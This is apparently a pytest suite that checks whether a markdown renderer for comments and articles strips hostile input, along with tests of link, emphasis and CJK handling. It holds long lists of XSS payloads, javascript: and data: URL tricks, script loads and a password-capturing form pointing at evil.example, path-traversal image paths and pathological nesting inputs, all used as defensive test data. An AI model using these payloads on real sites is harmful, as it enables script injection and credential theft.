"""Markdown as readers see it, and as somebody who means harm writes it."""

import re

import html5lib
import pytest

from core.markup import render_article, render_comment

RENDERERS = pytest.mark.parametrize("render", [render_comment, render_article])
HTML = "{http://www.w3.org/1999/xhtml}"
ELEMENTS = {
    render_comment: {"p", "br", "em", "strong", "a", "ul", "ol", "li", "blockquote", "pre", "code"},
    render_article: {
        *("p", "br", "em", "strong", "a", "ul", "ol", "li", "blockquote", "pre", "code", "h2", "h3", "h4", "hr"),
        *("table", "thead", "tbody", "tr", "th", "td", "figure", "figcaption", "img", "ruby", "rp", "rt"),
        *("sup", "section", "footer", "cite"),
    },
}
ATTRIBUTES = {
    render_comment: {("a", "href"), ("a", "rel"), ("ol", "start"), ("pre", "tabindex")},
    render_article: {
        ("a", "href"),
        ("a", "title"),
        ("a", "rel"),
        ("ol", "start"),
        ("pre", "tabindex"),
        ("table", "tabindex"),
        ("code", "class"),
        ("th", "scope"),
        *((tag, "id") for tag in ("a", "li", "h2", "h3", "h4")),
        *((tag, "align") for tag in ("th", "td")),
        *(("a", name) for name in ("role", "aria-label")),
        *(("section", name) for name in ("role", "aria-label")),
    },
}

WEB_OR_MAILBOX = {"", "https", "http", "mailto"}

DEAD_LINKS = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "\njavascript:alert(1)",
    "\x01javascript:alert(1)",
    "\x0bjavascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u3000javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\x00script:alert(1)",
    "java&#9;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "\\javascript:alert(1)",
    "java\\script:alert(1)",
    "<javascript:alert(1)>",
    "< javascript:alert(1)>",
    "javascript://example.org/%0aalert(1)",
    "javascript:/*https://example.org*/alert(1)",
    "ｊavascript:alert(1)",
    "vbscript:msgbox(1)",
    "VbScRiPt:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,x",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "filesystem:https://example.org/1",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:https://example.org!/x",
    "ftp://example.org/x",
    "tel:+8610",
    "intent://example.org#Intent;end",
    "ms-msdt:/id",
]

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt SrC=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<details open ontoggle=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<a href=javascript:alert(1) onmouseover=alert(1)>x</a>",
    "<x onclick=alert(1) style=position:fixed;inset:0>x",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)",
    "</p></div></article><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html\"><script>alert(1)</script>\n<b>\n```",
    "```x onclick=alert(1)\ncode\n```",
    '[x](https://example.org/"onmouseover="alert(1))',
    '[x](https://example.org "\\"onmouseover=alert(1) x=\\"")',
    "[x](https://example.org 'a\" onclick=\"alert(1)')",
    "[x](<https://example.org/\" onclick=alert(1)>)",
    "https://example.org/\"onmouseover=alert(1)",
    "https://example.org/'><script>alert(1)</script>",
    "<https://example.org/\"><script>alert(1)</script>>",
    "![x](x\" onerror=\"alert(1))",
    "![<img src=x onerror=alert(1)>](https://example.org/x.png)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[<script>alert(1)</script>](https://example.org)",
    "[a]: javascript:alert(1)\n\n[a] [a][] [b][a]",
    "| <script>alert(1)</script> | b |\n|-|-|\n| <img src=x onerror=alert(1)> | \\|<svg onload=alert(1)> |",
    "| a |\n|:-:|\n| style |",
    "# <script>alert(1)</script> {onclick=alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<\ufdd0script>alert(1)</\u3000script>",
    "＜script＞alert(1)＜/script＞",
    "**<b onclick=alert(1)>**_<i style=x>_",
    "[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: a",
    "{汉|<script>alert(1)</script>}",
    "{汉|\"><img src=x onerror=alert(1)>}",
    "> a\n> —— <script>alert(1)</script>",
    "![\" onerror=\"alert(1)](/pictures/0123456789abcdef0123456789abcdef-480.webp \"\\\"><script>alert(1)</script>\")",
    "![x](/pictures/../site.db)",
    "![x](/pictures/0123456789abcdef0123456789abcdef-480.webp/../../healthz)",
    "![x](//evil.example/pictures/0123456789abcdef0123456789abcdef-480.webp)",
    "1. <li onclick=alert(1)>\n   > <blockquote cite=javascript:alert(1)>",
    "999999999. x\n<ol start='javascript:1'>",
    "<a name=cookie id=csrf_token class=field>clobber</a>",
]  # fmt: skip

PAIRS = ["**", "__", "[]", "[[", "![", "](", "<>", "``", "> ", "- ", "&#", "：*"]


def nested(sign, close="", depth=1000):
    return sign * depth + "x" + close * depth


PATHOLOGICAL = [
    nested("[", "]"),
    nested("[", "](x)"),
    nested("[a](", ")"),
    nested("![", "](x)"),
    nested("*", "*"),
    nested("**a ", "**"),
    nested("*a _b "),
    nested("> "),
    nested("- "),
    nested("1. "),
    nested("<"),
    nested("<a href='"),
    nested("&"),
    nested("\\"),
    nested("`"),
    nested("~~~\n"),
    nested("(https://"),
    nested("https://a."),
    nested("https://a.example/("),
    nested("https://a.example/( "),
    nested("http://"),
    nested("mailto:a@"),
    nested("[x]: a\n"),
    nested("[a", "]: /b\n\n"),
    nested("|a|b\n|-|-\n"),
    nested("a\n===\n"),
    nested("\u3000"),
    nested("“**"),
    nested("[^a]: "),
    nested("[^a]: x\n\n") + "[^a]" * 1000,
    "[^a]: x\n\n" + "[^" * 32768,
    "[^a]: x\n\n" + "[^a]" * 16384,
    "".join(f"[^{n}]: x[^{n + 1}]\n\n" for n in range(2000)) + "[^0]",
    "{汉|" * 16384,
    "{汉|字}" * 8192,
    "> a\n> —— " * 5000,
    "# 一\n\n" * 8192,
    "![](/pictures/" * 4096,
    "![a](/pictures/0123456789abcdef0123456789abcdef-480.webp)\n" * 1000,
    "![" * 500 + "](x)" * 500,
    "".join("`" * n + "a" for n in range(360)),
    "".join("  " * n + "- a\n" for n in range(250)),
    "".join(">" * n + " a\n" for n in range(360)),
    "a" * 65536,
    "字" * 65536,
    "\n" * 65536,
    "\t" * 65536,
]


def elements(html):
    """Return the elements a browser makes of the HTML."""
    return [node for node in html5lib.parseFragment(html).iter() if node.tag != "DOCUMENT_FRAGMENT"]


def text_of(html):
    return "".join(html5lib.parseFragment(html).itertext())


def links(html):
    return [node.get("href") for node in elements(html) if node.tag == HTML + "a" and node.get("href") is not None]


def scheme_of(address):
    """Return the scheme a browser finds (WHATWG URL: controls and blanks around are cut, tabs and newlines dropped)."""
    read = re.sub(r"[\t\n\r]", "", address.strip("".join(map(chr, range(0x21)))))
    found = re.match(r"([a-z][a-z0-9+.-]*):", read, re.IGNORECASE)
    return found[1].lower() if found else ""


@RENDERERS
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_becomes_an_element_or_an_attribute(render, attack):
    """S01, S05, T02."""
    for source in (attack, f"前{attack}后", f"> - {attack}", attack.upper()):
        for node in elements(render(source)):
            tag = str(node.tag)
            assert tag.startswith(HTML) and tag.removeprefix(HTML) in ELEMENTS[render]
            assert {(tag.removeprefix(HTML), name) for name in node.attrib} <= ATTRIBUTES[render]
            assert scheme_of(node.get("href", "")) in WEB_OR_MAILBOX
            assert node.get("start", "1").isdigit()
            assert node.get("tabindex", "0") == "0"
            assert re.fullmatch(r"language-[\w.+#-]+", node.get("class", "language-x"))
            assert re.fullmatch(r"h-[\w-]+|note-\d+(-mark(-\d+)?)?", node.get("id", "h-x"))


@RENDERERS
@pytest.mark.parametrize("address", DEAD_LINKS)
def test_a_link_leads_to_the_web_or_to_a_mailbox_or_nowhere(render, address):
    """S02, T39, T71: checked where it is rendered, whichever way it came in."""
    for source in (f"[字]({address})", f"[字](<{address}>)", f"<{address}>", f"[字]: {address}\n\n[字]", address):
        for node in elements(render(source) + render("!" + source)):
            assert str(node.tag).removeprefix(HTML) in ELEMENTS[render]
            assert scheme_of(node.get("href", "")) in WEB_OR_MAILBOX


@RENDERERS
def test_html_stays_text(render):
    typed = "他写道：<b onclick='x'>粗</b> & <br/> &copy <!-- 注 -->"

    html = render(typed)

    assert {str(node.tag) for node in elements(html)} == {HTML + "p"}
    assert text_of(html).strip() == typed


@pytest.mark.parametrize(
    ("typed", "address", "rest"),
    [
        ("见 https://example.org/a。下一句", "https://example.org/a", "。下一句"),
        ("见https://example.org/a，然后", "https://example.org/a", "，然后"),
        ("（https://example.org/a）", "https://example.org/a", "）"),
        ("“https://example.org/a”", "https://example.org/a", "”"),
        ("《https://example.org》", "https://example.org", "》"),
        ("https://example.org/a！https", "https://example.org/a", "！https"),
        ("https://example.org/a……", "https://example.org/a", "……"),
        ("https://example.org/a——b", "https://example.org/a", "——b"),
        ("https://example.org/a　另起", "https://example.org/a", "　另起"),
        ("https://example.org/a、b", "https://example.org/a", "、b"),
        ("https://example.org/a?b=1&c=2#d；", "https://example.org/a?b=1&c=2#d", "；"),
        ("https://example.org/a. Next", "https://example.org/a", ". Next"),
        ("(https://example.org/a_(b))", "https://example.org/a_(b)", ")"),
        ("https://example.org/路径/页，", "https://example.org/%E8%B7%AF%E5%BE%84/%E9%A1%B5", "，"),
        ("https://例子.中国/a。", "https://xn--fsqu00a.xn--fiqs8s/a", "。"),
    ],
)  # fmt: skip
@RENDERERS
def test_a_link_typed_in_a_sentence_ends_where_the_sentence_goes_on(render, typed, address, rest):
    html = render(typed)

    assert links(html) == [address]
    assert html.rstrip().endswith(f"</a>{rest}</p>")


@RENDERERS
def test_two_links_in_one_sentence_are_two(render):
    html = render("从 https://example.org/a。到http://example.com/b，再（https://example.net/c）")

    assert links(html) == ["https://example.org/a", "http://example.com/b", "https://example.net/c"]


@pytest.mark.parametrize(
    "typed", ["www.example.org", "example.org", "me@example.org", "//example.org", "ahttps://example.org"]
)
@RENDERERS
def test_only_a_whole_address_becomes_a_link(render, typed):
    assert links(render(typed)) == []


@pytest.mark.parametrize(
    ("typed", "strong"),
    [
        ("**注意：**后面", "注意："),
        ("他说**“好”**的", "“好”"),
        ("前**（括号）**后", "（括号）"),
        ("前**《书名》**，后", "《书名》"),
        ("**粗**体", "粗"),
        ("중요**(강조)**입니다", "(강조)"),
        ("これは**「強調」**です", "「強調」"),
        ("plain **bold** words", "bold"),
    ],
)
@RENDERERS
def test_emphasis_works_beside_chinese_punctuation(render, typed, strong):
    assert [node.text for node in elements(render(typed)) if node.tag == HTML + "strong"] == [strong]


@pytest.mark.parametrize("typed", ["5 ** 3 ** 2", "** 空格 **", "a_b_c", "snake_case_name", "2*3*4", "**"])
@RENDERERS
def test_what_is_no_emphasis_in_english_stays_none(render, typed):
    expected = {"2*3*4": ["3"]}.get(typed, [])

    assert [node.text for node in elements(render(typed)) if node.tag in (HTML + "em", HTML + "strong")] == expected


def test_a_readers_link_earns_nothing_and_hands_over_nothing():
    html = render_comment("[字](https://example.org 'title') <https://example.org> https://example.org")

    assert [(node.get("rel"), node.get("title")) for node in elements(html) if node.tag == HTML + "a"] == [
        ("nofollow ugc noopener", None)
    ] * 3


def test_an_authors_link_counts_and_may_have_a_title():
    html = render_article("[字](https://example.org 'title')")

    assert '<a href="https://example.org" title="title" rel="noopener">字</a>' in html


def test_headings_in_an_article_begin_below_its_title():
    html = render_article("# 一\n\n## 二\n\n### 三\n\n#### 四\n\n##### 五\n\n###### 六\n\n七\n===\n\n八\n---")

    assert [str(node.tag).removeprefix(HTML) for node in elements(html)] == "h2 h2 h3 h4 h4 h4 h2 h2".split()  # noqa: SIM905


def test_a_reply_has_no_headings_rules_pictures_or_tables():
    typed = "# 一\n\n---\n\n![图](https://example.org/x.png)\n\n| a |\n|-|\n| b |"

    tags = {str(node.tag).removeprefix(HTML) for node in elements(render_comment(typed))}

    assert tags == {"p", "a", "br"}


def test_line_breaks_in_a_reply_stay_and_in_an_article_flow():
    assert render_comment("一\n二\n\n三") == "<p>一<br>二</p>\n<p>三</p>\n"
    assert render_article("一\n二\n\n三") == "<p>一\n二</p>\n<p>三</p>\n"


@RENDERERS
def test_a_chinese_indent_stays_in_every_paragraph(render):
    assert render("　　第一段\n\n　　第二段　") == "<p>　　第一段</p>\n<p>　　第二段　</p>\n"


@RENDERERS
def test_lists_quotes_and_code_are_what_they_look_like(render):
    html = render("- 一\n- 二\n\n1. 三\n\n> 引\n\n```py\n<b>  x\n```\n\n`a < b`")

    tags = [str(node.tag).removeprefix(HTML) for node in elements(html)]
    assert tags == "ul li li ol li blockquote p pre code p code".split()  # noqa: SIM905
    assert re.search('<pre tabindex="0"><code( class="language-py")?>&lt;b&gt;  x\n</code></pre>', html)
    assert "<code>a &lt; b</code>" in html


@RENDERERS
@pytest.mark.parametrize("source", PATHOLOGICAL, ids=range(len(PATHOLOGICAL)))
def test_whatever_is_nested_comes_back_as_text_and_not_much_longer(render, source):
    html = render(source)

    assert len(html) <= 30 * len(source)
    assert "<script" not in html


@pytest.mark.parametrize("pair", PAIRS)
def test_64_kilobytes_of_one_pair_of_signs_come_back_as_text(pair):
    """S09, T22, T29, T75, T91."""
    source = pair * 32768

    html = render_comment(source)

    assert len(html) <= 30 * len(source)


@RENDERERS
def test_an_address_longer_than_any_real_one_stays_text(render):
    assert len(links(render("https://example.org/" + "a" * 1900))) == 1
    assert links(render("https://example.org/" + "a" * 2000)) == []
